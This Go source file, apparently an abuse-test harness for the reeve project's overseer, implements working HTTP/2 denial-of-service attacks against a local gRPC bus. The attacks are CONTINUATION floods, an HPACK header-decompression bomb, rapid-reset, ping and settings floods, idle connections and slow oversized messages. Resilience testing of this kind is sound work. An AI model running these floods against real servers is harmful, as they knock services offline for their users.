package abuse

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"io"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	overseerv1 "github.com/reevenet/reeve/proto/reeve/overseer/v1"
)

// The attacks on the bus are those in which HTTP/2 servers are known to have drowned, by a process without a token.
var busAttacks = []Attack{
	{Name: "empty-continuations", Door: Bus, Does: "a header block that never ends, 20,000 empty frames/s", Most: 32,
		run: flood(20_000, func(w *http2.Framer, n int) error {
			if n == 0 {
				return w.WriteHeaders(http2.HeadersFrameParam{StreamID: 3, BlockFragment: []byte{0x82}})
			}
			return w.WriteContinuation(3, false, nil)
		})},
	{Name: "header-bomb", Door: Bus, Does: "16 KB that unfold to 47 MB, 100/s", Most: 48,
		run: flood(100, func(w *http2.Framer, n int) error {
			return w.WriteHeaders(http2.HeadersFrameParam{
				StreamID: uint32(2*n + 3), BlockFragment: bomb(), EndHeaders: true,
			})
		})},
	{Name: "rapid-reset", Door: Bus, Does: "calls opened and reset, 5,000/s", Most: 32,
		run: flood(5_000, func(w *http2.Framer, n int) error {
			stream := uint32(2*n + 3)
			return errors.Join(open(w, stream, attach), w.WriteRSTStream(stream, http2.ErrCodeCancel))
		})},
	{Name: "pings", Door: Bus, Does: "10,000/s", Most: 32,
		run: flood(10_000, func(w *http2.Framer, _ int) error { return w.WritePing(false, [8]byte{}) })},
	{Name: "settings", Door: Bus, Does: "5,000/s", Most: 32,
		run: flood(5_000, func(w *http2.Framer, _ int) error {
			return w.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 20})
		})},
	{Name: "silent-callers", Door: Bus, Does: "50 connections that stop after nothing, the preface, or an open call",
		Most: 32, run: silentCallers},
	{Name: "long-hellos", Door: Bus, Does: "40 connections, a first message of 16 MiB without its last byte, 8 MiB/s",
		Most: 32, run: longHellos},
}

const (
	attach = overseerv1.OverseerService_Attach_FullMethodName
	health = "/grpc.health.v1.Health/Check"
)

// caller is a connection to the bus.
type caller struct {
	net.Conn
	buf    bytes.Buffer
	framer *http2.Framer
	ended  chan struct{} // closed when the overseer has hung up
}

// caller connects; it says nothing yet.
func (a *attacker) caller(ctx context.Context) (*caller, error) {
	var d net.Dialer
	conn, err := d.DialContext(ctx, "unix", a.Bus)
	if err != nil {
		a.refused.Add(1)
		return nil, err
	}
	a.opened.Add(1)
	c := &caller{Conn: conn, ended: make(chan struct{})}
	c.framer = http2.NewFramer(&c.buf, nil)
	c.framer.AllowIllegalWrites = true
	go func() {
		defer close(c.ended)
		b := make([]byte, 16<<10)
		for {
			n, err := conn.Read(b)
			a.heard.Add(uint64(n))
			if err != nil {
				return
			}
		}
	}()
	return c, nil
}

// say writes what write frames.
func (a *attacker) say(c *caller, write func(w *http2.Framer) error) error {
	c.buf.Reset()
	if err := write(c.framer); err != nil {
		return err
	}
	c.SetWriteDeadline(time.Now().Add(time.Second)) //nolint:errcheck // it has been closed, as the write will tell
	n, err := c.Write(c.buf.Bytes())
	a.bytes.Add(uint64(n))
	return err
}

// preface begins HTTP/2 and opens the call that subsystems attach with.
func (a *attacker) preface(c *caller, path string) error {
	if _, err := c.Write([]byte(http2.ClientPreface)); err != nil {
		return err
	}
	return a.say(c, func(w *http2.Framer) error { return errors.Join(w.WriteSettings(), open(w, 1, path)) })
}

// open opens a call.
func open(w *http2.Framer, stream uint32, path string) error {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	e.SetMaxDynamicTableSize(0)
	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", path}, {":authority", "localhost"},
		{"content-type", "application/grpc"}, {"te", "trailers"}} {
		if err := e.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}); err != nil {
			return err
		}
	}
	return w.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block.Bytes(), EndHeaders: true})
}

// bomb is an entry of 3,900 bytes for the table, and 12,000 references to it.
func bomb() []byte {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	if err := e.WriteField(hpack.HeaderField{Name: "x", Value: string(bytes.Repeat([]byte{'a'}, 3900))}); err != nil {
		return nil
	}
	return append(block.Bytes(), bytes.Repeat([]byte{0x80 | 62}, 16_000-block.Len())...)
}

// flood sends frames so many times a second after the call has been opened, and comes back when it is hung up on.
func flood(perSecond float64, write func(w *http2.Framer, n int) error) func(context.Context, *attacker) error {
	together := max(1, int(perSecond/100))
	return func(ctx context.Context, a *attacker) error {
		return a.asCaller(ctx, func(c *caller) error {
			if err := a.preface(c, attach); err != nil {
				return err
			}
			return often(ctx, perSecond/float64(together), func(i int) error {
				err := a.say(c, func(w *http2.Framer) (err error) {
					for k := range together {
						err = errors.Join(err, write(w, together*i+k))
					}
					return err
				})
				if err == nil {
					a.sent.Add(uint64(together))
				}
				return err
			})
		})
	}
}

// asCaller does something with one connection after another: it comes back when the overseer has hung up.
func (a *attacker) asCaller(ctx context.Context, do func(c *caller) error) error {
	comingBack(ctx, a, a.caller, do)
	return nil
}

// comingBack does something with one connection after another until ctx ends.
func comingBack[C io.Closer](ctx context.Context, a *attacker, call func(context.Context) (C, error),
	do func(C) error) {
	for ctx.Err() == nil {
		if c, err := call(ctx); err == nil {
			stop := context.AfterFunc(ctx, func() { c.Close() })
			if do(c) != nil && ctx.Err() == nil {
				a.ended.Add(1)
			}
			stop()
			c.Close()
		}
		pause(ctx, comeBack)
	}
}

var errHungUp = errors.New("the overseer has hung up")

// stays holds a connection until the overseer hangs up.
func (c *caller) stays(ctx context.Context) error {
	select {
	case <-ctx.Done():
		return nil
	case <-c.ended:
		return errHungUp
	}
}

func silentCallers(ctx context.Context, a *attacker) error {
	says := []func(c *caller) error{
		func(*caller) error { return nil },
		func(c *caller) error { _, err := c.Write([]byte(http2.ClientPreface)); return err },
		func(c *caller) error { return a.preface(c, attach) },
		func(c *caller) error { return a.preface(c, health) },
	}
	return together(50, func(i int) error {
		return a.asCaller(ctx, func(c *caller) error {
			if err := says[i%len(says)](c); err != nil {
				return err
			}
			return c.stays(ctx)
		})
	})
}

// longHellos have all but the last byte of what they announce sent, 16 KiB at a time.
func longHellos(ctx context.Context, a *attacker) error {
	const callers, announced, piece = 40, 16<<20 - 1, 16 << 10
	return together(callers, func(int) error {
		return a.asCaller(ctx, func(c *caller) error {
			if err := a.preface(c, attach); err != nil {
				return err
			}
			first := append(binary.BigEndian.AppendUint32([]byte{0}, announced), make([]byte, piece)...)
			if err := a.say(c, func(w *http2.Framer) error { return w.WriteData(1, false, first[:piece]) }); err != nil {
				return err
			}
			left := announced/piece - 2
			err := often(ctx, (8<<20)/piece/callers, func(int) error {
				if left--; left < 0 {
					return c.stays(ctx)
				}
				a.sent.Add(1)
				return a.say(c, func(w *http2.Framer) error { return w.WriteData(1, false, make([]byte, piece)) })
			})
			return err
		})
	})
}

// together does something so many times at once, and returns when all have ended.
func together(n int, do func(i int) error) error {
	var all sync.WaitGroup
	errs := make([]error, n)
	for i := range n {
		all.Go(func() { errs[i] = do(i) })
	}
	all.Wait()
	return errors.Join(errs...)
}
